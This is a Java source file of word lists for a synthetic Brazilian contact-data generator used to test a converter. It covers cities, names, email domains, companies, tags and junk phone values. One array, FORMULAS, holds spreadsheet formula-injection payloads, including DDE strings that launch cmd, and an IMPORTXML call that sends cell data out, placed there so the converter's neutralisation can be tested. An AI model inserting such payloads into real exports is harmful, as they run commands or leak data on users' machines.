package com.ghldata.tools.generate;

import java.text.Normalizer;
import java.util.HashMap;
import java.util.Locale;
import java.util.Map;

/**
 * The word lists the generator draws from. Cities carry their real area code and CEP range so a
 * generated contact is coherent (a São Paulo CEP comes with an 11 phone), which lets the converter's
 * own consistency checks be tested on this data.
 */
final class Vocabulary {
  private Vocabulary() {}

  /**
   * A Brazilian city with its UF, phone area code and CEP range (first five digits), and the
   * spellings people use, made once here rather than per row.
   */
  record BrCity(String name, String nameUpper, String nameLower, String ascii, String uf,
      String ufLower, String state, String stateUpper, String stateAscii, String area,
      int cepStart, int cepSpan) {}

  /** A foreign city with its phone area code and what its postal codes look like. */
  record ForeignCity(String name, String region, String area, int postalStart, int postalSpan) {}

  // city|UF|area code|first CEP prefix|prefix span|weight (roughly the share of contacts)
  private static final String BR_CITY_TABLE = """
      São Paulo|SP|11|01000|4999|260
      Guarulhos|SP|11|07000|399|10
      Santo André|SP|11|09000|299|8
      Osasco|SP|11|06000|299|7
      Campinas|SP|19|13000|139|25
      Santos|SP|13|11000|99|10
      São José dos Campos|SP|12|12200|99|8
      Ribeirão Preto|SP|16|14000|109|8
      Sorocaba|SP|15|18000|109|7
      São José do Rio Preto|SP|17|15000|99|5
      Bauru|SP|14|17000|59|4
      Presidente Prudente|SP|18|19000|69|3
      Rio de Janeiro|RJ|21|20000|3799|90
      Niterói|RJ|21|24000|399|8
      Campos dos Goytacazes|RJ|22|28000|99|4
      Petrópolis|RJ|24|25600|99|4
      Belo Horizonte|MG|31|30000|1999|45
      Juiz de Fora|MG|32|36000|99|6
      Uberlândia|MG|34|38400|99|7
      Poços de Caldas|MG|35|37700|19|3
      Divinópolis|MG|37|35500|19|3
      Montes Claros|MG|38|39400|99|3
      Vitória|ES|27|29000|99|8
      Vila Velha|ES|27|29100|99|5
      Cachoeiro de Itapemirim|ES|28|29300|9|2
      Curitiba|PR|41|80000|2999|35
      Londrina|PR|43|86000|99|7
      Maringá|PR|44|87000|99|6
      Ponta Grossa|PR|42|84000|99|4
      Cascavel|PR|45|85800|99|4
      Francisco Beltrão|PR|46|85600|9|2
      Florianópolis|SC|48|88000|99|12
      Joinville|SC|47|89200|99|9
      Blumenau|SC|47|89000|99|7
      Chapecó|SC|49|89800|99|4
      Porto Alegre|RS|51|90000|1999|35
      Caxias do Sul|RS|54|95000|99|8
      Pelotas|RS|53|96000|99|5
      Santa Maria|RS|55|97000|99|4
      Brasília|DF|61|70000|2799|35
      Goiânia|GO|62|74000|899|18
      Anápolis|GO|62|75000|199|3
      Rio Verde|GO|64|75900|9|2
      Palmas|TO|63|77000|99|3
      Cuiabá|MT|65|78000|99|7
      Rondonópolis|MT|66|78700|99|2
      Campo Grande|MS|67|79000|99|7
      Rio Branco|AC|68|69900|99|2
      Porto Velho|RO|69|76800|99|3
      Salvador|BA|71|40000|2599|35
      Feira de Santana|BA|75|44000|99|6
      Vitória da Conquista|BA|77|45000|99|4
      Ilhéus|BA|73|45650|9|2
      Juazeiro|BA|74|48900|9|2
      Aracaju|SE|79|49000|99|6
      Maceió|AL|82|57000|99|8
      Recife|PE|81|50000|2999|25
      Jaboatão dos Guararapes|PE|81|54000|99|5
      Petrolina|PE|87|56300|99|3
      João Pessoa|PB|83|58000|99|8
      Campina Grande|PB|83|58400|99|4
      Natal|RN|84|59000|99|8
      Fortaleza|CE|85|60000|1599|25
      Juazeiro do Norte|CE|88|63000|99|3
      Teresina|PI|86|64000|99|7
      Picos|PI|89|64600|9|1
      São Luís|MA|98|65000|99|8
      Imperatriz|MA|99|65900|99|3
      Belém|PA|91|66000|999|12
      Santarém|PA|93|68000|99|3
      Marabá|PA|94|68500|9|2
      Manaus|AM|92|69000|99|14
      Tefé|AM|97|69550|9|1
      Boa Vista|RR|95|69300|99|2
      Macapá|AP|96|68900|99|2
      """;

  private static final String[][] STATES = {
    {"AC", "Acre"}, {"AL", "Alagoas"}, {"AP", "Amapá"}, {"AM", "Amazonas"}, {"BA", "Bahia"},
    {"CE", "Ceará"}, {"DF", "Distrito Federal"}, {"ES", "Espírito Santo"}, {"GO", "Goiás"},
    {"MA", "Maranhão"}, {"MT", "Mato Grosso"}, {"MS", "Mato Grosso do Sul"}, {"MG", "Minas Gerais"},
    {"PA", "Pará"}, {"PB", "Paraíba"}, {"PR", "Paraná"}, {"PE", "Pernambuco"}, {"PI", "Piauí"},
    {"RJ", "Rio de Janeiro"}, {"RN", "Rio Grande do Norte"}, {"RS", "Rio Grande do Sul"},
    {"RO", "Rondônia"}, {"RR", "Roraima"}, {"SC", "Santa Catarina"}, {"SP", "São Paulo"},
    {"SE", "Sergipe"}, {"TO", "Tocantins"},
  };

  static final BrCity[] BR_CITIES;
  /** Indexes into BR_CITIES, each repeated by its weight: a uniform pick is a weighted pick. */
  static final int[] BR_CITY_PICKS;

  static {
    Map<String, String> stateNames = new HashMap<>();
    for (String[] s : STATES) {
      stateNames.put(s[0], s[1]);
    }
    String[] lines = BR_CITY_TABLE.strip().split("\n");
    BR_CITIES = new BrCity[lines.length];
    int totalWeight = 0;
    int[] weights = new int[lines.length];
    for (int i = 0; i < lines.length; i++) {
      String[] f = lines[i].strip().split("\\|");
      String state = stateNames.get(f[1]);
      BR_CITIES[i] = new BrCity(f[0], f[0].toUpperCase(Locale.ROOT), f[0].toLowerCase(Locale.ROOT),
          ascii(f[0]), f[1], f[1].toLowerCase(Locale.ROOT), state, state.toUpperCase(Locale.ROOT),
          ascii(state), f[2], Integer.parseInt(f[3]), Integer.parseInt(f[4]));
      weights[i] = Integer.parseInt(f[5]);
      totalWeight += weights[i];
    }
    BR_CITY_PICKS = new int[totalWeight];
    int k = 0;
    for (int i = 0; i < weights.length; i++) {
      for (int w = 0; w < weights[i]; w++) {
        BR_CITY_PICKS[k++] = i;
      }
    }
  }

  // Real area codes; the exchange and line digits are random (see ContactSynth.usPhone).
  static final ForeignCity[] US_CITIES = {
    new ForeignCity("New York", "NY", "212", 10001, 280),
    new ForeignCity("New York", "NY", "646", 10001, 280),
    new ForeignCity("San Francisco", "CA", "415", 94102, 80),
    new ForeignCity("Los Angeles", "CA", "213", 90001, 89),
    new ForeignCity("Miami", "FL", "305", 33101, 98),
    new ForeignCity("Orlando", "FL", "407", 32801, 38),
    new ForeignCity("Fort Lauderdale", "FL", "954", 33301, 33),
    new ForeignCity("Boston", "MA", "617", 2108, 107),
    new ForeignCity("Chicago", "IL", "312", 60601, 60),
    new ForeignCity("Las Vegas", "NV", "702", 89101, 70),
  };

  // Portuguese postal codes are NNNN-NNN; postalStart is the four-digit part.
  static final ForeignCity[] PT_CITIES = {
    new ForeignCity("Lisboa", "Lisboa", "21", 1000, 990),
    new ForeignCity("Porto", "Porto", "22", 4000, 499),
    new ForeignCity("Braga", "Braga", "253", 4700, 99),
    new ForeignCity("Coimbra", "Coimbra", "239", 3000, 99),
  };

  // Argentine postal codes: the four-digit part of the CPA (C1043AAZ) or the old code alone.
  static final ForeignCity[] AR_CITIES = {
    new ForeignCity("Buenos Aires", "CABA", "11", 1000, 499),
    new ForeignCity("Córdoba", "Córdoba", "351", 5000, 20),
    new ForeignCity("Rosario", "Santa Fe", "341", 2000, 13),
    new ForeignCity("Mendoza", "Mendoza", "261", 5500, 20),
  };

  static final String[] BR_FIRST = {
    "Maria", "José", "João", "Ana", "Antônio", "Francisco", "Carlos", "Paulo", "Pedro", "Lucas",
    "Luiz", "Marcos", "Luís", "Gabriel", "Rafael", "Daniel", "Marcelo", "Bruno", "Eduardo", "Felipe",
    "Raimundo", "Rodrigo", "Manoel", "Mateus", "André", "Fernando", "Fábio", "Leonardo", "Gustavo",
    "Guilherme", "Leandro", "Tiago", "Anderson", "Ricardo", "Márcio", "Jorge", "Sebastião",
    "Alexandre", "Roberto", "Edson", "Diego", "Vítor", "Sérgio", "Cláudio", "Matheus", "Thiago",
    "Geraldo", "Adriano", "Luciano", "Júlio", "Renato", "Vinícius", "Rogério", "Samuel", "Ronaldo",
    "Mário", "Flávio", "Igor", "Douglas", "Davi", "Enzo", "Heitor", "Arthur", "Bernardo", "Otávio",
    "Caio", "Joaquim", "Benício", "Francisca", "Antônia", "Adriana", "Juliana", "Márcia", "Fernanda",
    "Patrícia", "Aline", "Sandra", "Camila", "Amanda", "Bruna", "Jéssica", "Letícia", "Júlia",
    "Luciana", "Vanessa", "Mariana", "Gabriela", "Vera", "Vitória", "Larissa", "Cláudia", "Beatriz",
    "Luana", "Rita", "Sônia", "Renata", "Eliane", "Josefa", "Simone", "Natália", "Cristiane", "Carla",
    "Débora", "Rosângela", "Jaqueline", "Rosana", "Daniela", "Aparecida", "Marlene", "Terezinha",
    "Raimunda", "Andréia", "Fabiana", "Lúcia", "Raquel", "Ângela", "Helena", "Alice", "Laura",
    "Valentina", "Sophia", "Isabela", "Manuela", "Lívia", "Giovanna", "Maria Eduarda", "Ana Clara",
    "Maria Clara", "Ana Júlia", "João Pedro", "João Vitor", "Luiz Henrique", "Pedro Henrique",
    "Carlos Eduardo", "José Carlos", "Maria José", "Maria de Fátima", "Ana Paula",
  };

  static final String[] BR_LAST = {
    "Silva", "Santos", "Oliveira", "Souza", "Sousa", "Rodrigues", "Ferreira", "Alves", "Pereira",
    "Lima", "Gomes", "Costa", "Ribeiro", "Martins", "Carvalho", "Almeida", "Lopes", "Soares",
    "Fernandes", "Vieira", "Barbosa", "Rocha", "Dias", "Nascimento", "Andrade", "Moreira", "Nunes",
    "Marques", "Machado", "Mendes", "Freitas", "Cardoso", "Ramos", "Gonçalves", "Santana",
    "Teixeira", "Araújo", "Simões", "Magalhães", "Brandão", "Mourão", "Mota", "Pinto", "Cavalcanti",
    "Monteiro", "Moura", "Correia", "Batista", "Campos", "Castro", "Reis", "Cunha", "Pires",
    "Xavier", "Azevedo", "Barros", "Farias", "Rezende", "Aragão", "Guimarães", "Falcão", "Sampaio",
    "Peixoto", "Queiroz", "Sá", "Melo", "Fonseca", "Borges",
  };

  /** Surnames as Brazilians write them with their particle: the particle stays lower case. */
  static final String[] BR_LAST_WITH_PARTICLE = {
    "da Silva", "dos Santos", "de Oliveira", "de Souza", "da Costa", "da Conceição",
    "do Nascimento", "das Neves", "de Jesus", "dos Reis", "de Almeida", "da Rocha", "de Carvalho",
    "de Lima", "da Cunha", "de Assis", "de Paula", "do Carmo", "dos Anjos", "da Mota",
  };

  static final String[] EN_FIRST = {
    "John", "Mary", "James", "Patricia", "Robert", "Jennifer", "Michael", "Linda", "William",
    "Elizabeth", "David", "Barbara", "Richard", "Susan", "Joseph", "Jessica", "Thomas", "Sarah",
    "Charles", "Karen", "Christopher", "Nancy", "Daniel", "Lisa", "Matthew", "Emily", "Anthony",
    "Ashley", "Mark", "Michelle",
  };

  static final String[] EN_LAST = {
    "Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller", "Davis", "Wilson",
    "Anderson", "Taylor", "Thomas", "Moore", "Jackson", "Martin", "Lee", "Thompson", "White",
    "Harris", "Clark", "O'Brien", "McDonald",
  };

  static final String[] ES_FIRST = {
    "Martín", "Sofía", "Santiago", "Valentina", "Mateo", "Camila", "Joaquín", "Lucía", "Tomás",
    "Florencia", "Juan Pablo", "María José", "Agustín", "Micaela", "Nicolás", "Julieta", "Facundo",
    "Milagros", "Gonzalo", "Rocío",
  };

  static final String[] ES_LAST = {
    "González", "Rodríguez", "Fernández", "López", "Martínez", "García", "Pérez", "Sánchez",
    "Romero", "Sosa", "Álvarez", "Torres", "Ruiz", "Ramírez", "Flores", "Benítez", "Acosta",
    "Medina", "Herrera", "Suárez", "Giménez", "Gutiérrez", "Díaz",
  };

  // Repeated entries weight the pick: most Brazilians use Gmail or Hotmail.
  static final String[] BR_DOMAINS = {
    "gmail.com", "gmail.com", "gmail.com", "gmail.com", "gmail.com", "gmail.com", "gmail.com",
    "gmail.com", "hotmail.com", "hotmail.com", "hotmail.com", "outlook.com", "outlook.com",
    "yahoo.com.br", "yahoo.com.br", "yahoo.com", "uol.com.br", "bol.com.br", "terra.com.br",
    "icloud.com", "live.com", "ig.com.br", "globo.com", "hotmail.com.br",
  };
  static final String[] US_DOMAINS = {"gmail.com", "gmail.com", "yahoo.com", "outlook.com", "aol.com", "icloud.com"};
  static final String[] PT_DOMAINS = {"gmail.com", "gmail.com", "sapo.pt", "hotmail.com", "outlook.pt"};
  static final String[] AR_DOMAINS = {"gmail.com", "gmail.com", "hotmail.com.ar", "yahoo.com.ar", "outlook.com"};

  static final String[] COMPANY_KINDS = {
    "Padaria", "Mercado", "Auto Peças", "Clínica", "Construtora", "Imobiliária", "Farmácia", "Loja",
    "Restaurante", "Academia", "Contabilidade", "Consultoria", "Transportadora", "Pet Shop",
    "Salão", "Distribuidora", "Agência", "Escola", "Ótica", "Papelaria", "Studio", "Odontologia",
  };
  static final String[] COMPANY_WORDS = {
    "Bom Preço", "São Jorge", "Estrela", "Aliança", "Nova Era", "Ponto Certo", "Sol Nascente",
    "Central", "Boa Vista", "Progresso", "Vitória", "Horizonte", "Real", "Primavera", "Bela Vista",
    "Santa Luzia", "Ipê", "Atlântico", "Pioneira", "União",
  };
  static final String[] COMPANY_SUFFIXES = {
    "", "", "", "", " Ltda", " Ltda", " LTDA", " ME", " - ME", " EIRELI", " S/A", " S.A.", " & Cia",
    " Ltda.", " MEI",
  };
  static final String[] TECH_SUFFIXES = {" Tecnologia", " Soluções Digitais", " Marketing Digital", " Software"};
  static final String[] WELL_KNOWN_COMPANIES = {
    "Magazine Luiza", "Itaú Unibanco", "Natura &Co", "Ambev", "Grupo Boticário", "Petrobras",
    "Banco do Brasil", "Nubank", "iFood", "Mercado Livre",
  };

  static final String[] JOB_TITLES = {
    "Gerente", "Diretor Comercial", "Analista de Marketing", "Proprietário", "Sócia", "CEO",
    "Vendedor", "Coordenadora de RH", "Assistente Administrativo", "Gerente de Compras",
    "Consultora", "Engenheiro", "Advogada", "Médico", "Dentista", "Supervisor",
  };

  static final String[] STREET_TYPES = {"Rua", "Rua", "Rua", "R.", "Av.", "Avenida", "Alameda", "Travessa", "Praça", "Estrada"};
  static final String[] STREET_NAMES = {
    "das Flores", "Augusta", "Paulista", "XV de Novembro", "Sete de Setembro", "1º de Maio",
    "Barão de Mauá", "Dom Pedro II", "Getúlio Vargas", "Brasil", "Santos Dumont", "Tiradentes",
    "Marechal Deodoro", "José Bonifácio", "Rui Barbosa", "Presidente Vargas", "Amazonas",
    "São João", "do Comércio", "Boa Viagem", "Afonso Pena", "Beira Mar", "da Independência",
    "25 de Março", "Oscar Freire", "das Palmeiras", "Coronel Oliveira", "Padre Anchieta",
  };
  static final String[] ADDRESS_COMPLEMENTS = {
    " - apto 42", ", apto. 1203", ", sala 3", " bloco B apto 101", ", casa 2", " - fundos",
    ", cj. 12", " - Centro", " - Jardim América", ", 2º andar", " - Vila Mariana", ", lote 7 quadra 3",
  };
  static final String[] US_STREETS = {"Main St", "Oak Avenue", "Maple Dr", "Broadway", "Ocean Drive", "Park Ave", "Sunset Blvd"};

  static final String[] TAGS = {
    "cliente", "Cliente VIP", "lead", "Lead Quente", "prospect", "newsletter", "black friday 2024",
    "evento.sp", "webinar 03.2024", "indicação", "instagram", "whatsapp", "parceiro", "ex-cliente",
    "Imersão Jan.25", "curso online", "vip", "LEAD", "Cliente", "lista.fria", "Feira Jun.2023",
    "orçamento enviado",
  };
  static final String[] TAG_SEPARATORS = {", ", ", ", ", ", ", ", ", ", ", ", ",", ",", ";", " | "};

  static final String[] SOURCES = {
    "Instagram", "Facebook Ads", "Google Ads", "Indicação", "Site", "WhatsApp", "Evento",
    "Landing Page", "Orgânico", "LinkedIn", "Planilha antiga", "RD Station",
  };
  static final String[] HUBSPOT_SOURCES = {
    "Organic Search", "Paid Social", "Paid Search", "Referrals", "Direct Traffic", "Social Media",
    "Offline Sources", "Email Marketing",
  };
  static final String[] LIFECYCLE_STAGES = {
    "Lead", "Lead", "Subscriber", "Marketing Qualified Lead", "Sales Qualified Lead", "Opportunity",
    "Customer",
  };

  static final String[] NOTES = {
    "Cliente desde 2019", "Ligar após 14h", "Prefere contato por WhatsApp",
    "Interessado no plano anual", "Pediu orçamento, aguardando retorno",
    "Ligou em 12/03\nRetornar na semana que vem", "Não ligar aos sábados",
    "Veio pela feira; quer catálogo", "Contato antigo, confirmar telefone",
  };

  /** Cells that a spreadsheet program would run as a formula: the converter must neutralise them. */
  static final String[] FORMULAS = {
    "=HYPERLINK(\"http://example.com/x\",\"Clique aqui\")", "=1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0", "-2+3", "=IMPORTXML(CONCAT(\"http://example.com/?\",A1),\"//a\")",
  };

  /** What people type into a phone cell when there is no usable number. */
  static final String[] GARBAGE_PHONES = {
    "0000", "123", "n/a", "não tem", "(11) 1234", "99999999999999", "-", "sem telefone",
    "(11) 0000-0000", "5,51199E+12", "11 9", "telefone", "xxx", "0", "1111111111", "ver e-mail",
  };

  /** Email cells that cannot be made valid. */
  static final String[] MISC_INVALID_EMAILS = {"não tem", "-", "n/a", "sem email", "www.site.com.br", "0"};

  static final String[] RAMAL_SUFFIXES = {" ramal 12", " r. 204", " ext. 3", " - ramal 5", " Ramal: 21", " ramal 1010"};
  static final String[] PHONE_SEPARATORS = {" / ", " / ", "; ", " e ", ", ", " ou "};

  /** Lower-case ASCII letters and digits only: how a name ends up in an email address. */
  static String emailPart(String name) {
    String a = ascii(name).toLowerCase(Locale.ROOT);
    StringBuilder sb = new StringBuilder(a.length());
    for (int i = 0; i < a.length(); i++) {
      char c = a.charAt(i);
      if ((c >= 'a' && c <= 'z') || (c >= '0' && c <= '9')) {
        sb.append(c);
      }
    }
    return sb.toString();
  }

  /** The text with its accents removed ("São" → "Sao"). Not for hot paths: tables are folded once. */
  static String ascii(String s) {
    String d = Normalizer.normalize(s, Normalizer.Form.NFD);
    StringBuilder sb = new StringBuilder(d.length());
    for (int i = 0; i < d.length(); i++) {
      char c = d.charAt(i);
      if (Character.getType(c) != Character.NON_SPACING_MARK) {
        sb.append(c);
      }
    }
    return sb.toString();
  }
}
